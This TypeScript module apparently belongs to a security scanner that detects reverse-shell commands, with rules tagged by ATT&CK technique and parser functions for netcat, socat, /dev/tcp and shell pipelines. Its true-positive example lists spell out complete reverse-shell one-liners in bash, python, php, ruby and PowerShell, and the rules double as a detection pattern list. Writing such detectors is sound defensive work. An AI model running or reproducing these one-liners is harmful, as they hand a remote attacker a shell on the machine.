import { hasLong, hasShort, isInterpreter, isShell, type Cmd, type CommandRule, type Env, type Stage } from '../model.js';
import { normName } from '../resolve.js';
import { readsStdin } from './download-exec.js';

export const REVERSE_SHELL_RULES: CommandRule[] = [
  {
    id: 'commands.reverse-shell.dev-tcp',
    family: 'reverse-shell',
    severity: 'critical',
    score: 0.95,
    attack: 'T1059.004',
    description: 'Shell wired to a network socket through /dev/tcp or /dev/udp (reverse shell)',
    examples: {
      tp: ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'sh -i 5<> /dev/tcp/203.0.113.4/9001 0<&5 1>&5 2>&5', '0<&196;exec 196<>/dev/tcp/198.51.100.2/443; sh <&196 >&196 2>&196'],
      fp: ['timeout 1 bash -c "</dev/tcp/db.internal/5432" && echo open', 'echo hello > /dev/null 2>&1', 'The /dev/tcp pseudo-device lets bash open sockets.'],
    },
  },
  {
    id: 'commands.reverse-shell.netcat-exec',
    family: 'reverse-shell',
    severity: 'critical',
    score: 0.95,
    attack: 'T1059.004',
    description: 'netcat/ncat handing a shell to a network peer (-e/-c/--exec/--sh-exec)',
    examples: {
      tp: ['nc -e /bin/sh 10.0.0.1 4444', 'ncat --sh-exec "bash -i" 203.0.113.8 443', 'nc.exe -lvp 4444 -e cmd.exe'],
      fp: ['nc -zv db.internal 5432', 'ncat -l 8080 > upload.bin', 'nc -l 1234 | tar x'],
    },
  },
  {
    id: 'commands.reverse-shell.shell-pipe',
    family: 'reverse-shell',
    severity: 'critical',
    score: 0.93,
    attack: 'T1059.004',
    description: 'A shell whose input and output are piped through a network client (named-pipe reverse shell)',
    examples: {
      tp: ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f', 'mknod /tmp/p p && /bin/bash 0</tmp/p | nc 203.0.113.3 4444 1>/tmp/p', 'telnet 198.51.100.6 4444 | /bin/bash | telnet 198.51.100.6 4445'],
      fp: ['echo "GET / HTTP/1.0" | nc example.com 80', 'tar czf - ./site | nc backup.internal 9000', 'mkfifo /tmp/fifo && cat /tmp/fifo | gzip > out.gz'],
    },
  },
  {
    id: 'commands.reverse-shell.socat',
    family: 'reverse-shell',
    severity: 'critical',
    score: 0.94,
    attack: 'T1059.004',
    description: 'socat joining a network address to a program (exec:/system:)',
    examples: {
      tp: ["socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4444", 'socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh', 'socat OPENSSL:203.0.113.9:443,verify=0 SYSTEM:/bin/bash'],
      fp: ['socat TCP-LISTEN:8080,fork TCP:localhost:80', 'socat -v udp4-recvfrom:6000,fork exec:\'/bin/cat\'', 'socat file:`tty`,raw,echo=0 tcp-listen:4444'],
    },
  },
  {
    id: 'commands.reverse-shell.interpreter',
    family: 'reverse-shell',
    severity: 'critical',
    score: 0.92,
    attack: 'T1059',
    description: 'Script one-liner that connects a socket to a shell (python/perl/php/ruby/node/lua/awk)',
    examples: {
      tp: [
        'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
        'php -r \'$sock=fsockopen("203.0.113.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'ruby -rsocket -e\'f=TCPSocket.open("198.51.100.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
      ],
      fp: ['python3 -c "import socket; print(socket.gethostname())"', 'python -m http.server 8000', "perl -e 'print \"hello\\n\"'"],
    },
  },
  {
    id: 'commands.reverse-shell.powershell-tcp',
    family: 'reverse-shell',
    severity: 'critical',
    score: 0.93,
    attack: 'T1059.001',
    description: 'PowerShell TCPClient stream feeding Invoke-Expression (reverse shell)',
    examples: {
      tp: [
        "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$stream.Write(([text.encoding]::ASCII).GetBytes($sendback),0,$sendback.Length)}",
        "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.2',443);$s=$c.GetStream();while(($n=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex ([text.encoding]::ASCII.GetString($b,0,$n)) 2>&1|Out-String);$s.Write([text.encoding]::ASCII.GetBytes($o),0,$o.Length)}\"",
        "$l = New-Object System.Net.Sockets.TcpListener('0.0.0.0',4444); $l.Start(); $c = $l.AcceptTcpClient(); $s = $c.GetStream()\n$r = Invoke-Expression $cmd | Out-String",
      ],
      fp: ["$t = New-Object Net.Sockets.TcpClient; $t.Connect('db.internal', 1433); $t.Connected", 'Test-NetConnection -ComputerName db.internal -Port 1433', 'The TcpClient class provides simple methods for connecting over TCP.'],
    },
  },
];

const NETCAT = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'pwncat']);
const NET_CLIENTS = new Set([...NETCAT, 'telnet', 'socat']);
const DEV_TCP = /^\/dev\/(?:tcp|udp)\/[^/\s]{1,255}\/\d{1,5}/;
const SOCAT_EXEC = /^(?:exec|system):/;
const LEADING_QUOTE = /^['"]/;
const PROGRAM_END = /[\s,'"]/;
const SOCAT_NET = /^(?:tcp[46]?|udp[46]?|openssl|ssl|sctp)(?:-[a-z]{1,10})?:/;

function devTcp(c: Cmd, env: Env): void {
  for (const r of c.redirs) {
    if (!r.target || !DEV_TCP.test(env.expand(r.target.value))) continue;
    const shell = isShell(c.name) || (isInterpreter(c.name) && !c.args.includes('-c'));
    if (shell && !c.args.includes('-c')) {
      env.report('commands.reverse-shell.dev-tcp', c, `${c.name} with its standard streams redirected to a /dev/tcp socket`);
      return;
    }
    if (c.name === 'exec' && r.op === '<>') {
      env.report('commands.reverse-shell.dev-tcp', c, 'exec opens a read-write file descriptor on a /dev/tcp socket', { severity: 'high', score: 0.8 });
      return;
    }
  }
}

function netcatExec(c: Cmd, env: Env): void {
  if (!NETCAT.has(c.name)) return;
  const exec = hasShort(c, 'e') || hasShort(c, 'c') || hasLong(c, '--exec') || hasLong(c, '--sh-exec') || hasLong(c, '--lua-exec');
  if (!exec) return;
  const listen = hasShort(c, 'l') || hasLong(c, '--listen');
  env.report('commands.reverse-shell.netcat-exec', c, `${c.name} ${listen ? 'listens and hands connections a program (bind shell)' : 'connects out and hands the peer a program (reverse shell)'}`, c.lower.some((a) => a.includes('cmd.exe') || a.includes('powershell')) ? { attack: 'T1059.003' } : {});
}

function socat(c: Cmd, env: Env): void {
  if (c.name !== 'socat') return;
  const exec = c.lower.find((a) => SOCAT_EXEC.test(a));
  const net = c.lower.some((a) => SOCAT_NET.test(a));
  if (!exec || !net) return;
  // exec:'bash -li',pty / system:/bin/sh / EXEC:cmd.exe: the program must be a shell.
  const program = exec.slice(exec.indexOf(':') + 1).replace(LEADING_QUOTE, '').split(PROGRAM_END)[0] ?? '';
  const name = normName(program);
  if (isInterpreter(name) || name === 'cmd' || name === 'powershell') env.report('commands.reverse-shell.socat', c, `socat connects ${name} to a network address`);
}

function isNetStage(s: Stage, env: Env): boolean {
  return s.cmds.some((c) => NET_CLIENTS.has(c.name) || (c.name === 'openssl' && c.lower.includes('s_client')) || c.redirs.some((r) => r.target !== undefined && DEV_TCP.test(env.expand(r.target.value))));
}

function shellPipe(stages: Stage[], env: Env): void {
  if (stages.length < 2) return;
  const shellAt = stages.findIndex((s) => s.cmds.some((c) => (isShell(c.name) || c.name === 'cmd' || c.name === 'powershell') && (readsStdin(c, env) || hasShort(c, 'i'))));
  if (shellAt < 0) return;
  const netAt = stages.findIndex((s, i) => i !== shellAt && isNetStage(s, env));
  if (netAt < 0) return;
  const from = Math.min(shellAt, netAt);
  const to = Math.max(shellAt, netAt);
  const sh = stages[shellAt]!.cmds.find((c) => isShell(c.name) || c.name === 'cmd' || c.name === 'powershell')!;
  env.report('commands.reverse-shell.shell-pipe', { start: stages[from]!.start, end: stages[to]!.end }, `${sh.name} reads from and/or writes to a network client in one pipeline`);
}

export function reverseShellCommand(c: Cmd, env: Env): void {
  devTcp(c, env);
  netcatExec(c, env);
  socat(c, env);
}

export function reverseShellPipeline(stages: Stage[], env: Env): void {
  shellPipe(stages, env);
}

/** Every regex this module ships (checked for ReDoS by the tests). */
export const REVERSE_SHELL_PATTERNS: readonly RegExp[] = [DEV_TCP, SOCAT_EXEC, SOCAT_NET, LEADING_QUOTE, PROGRAM_END];
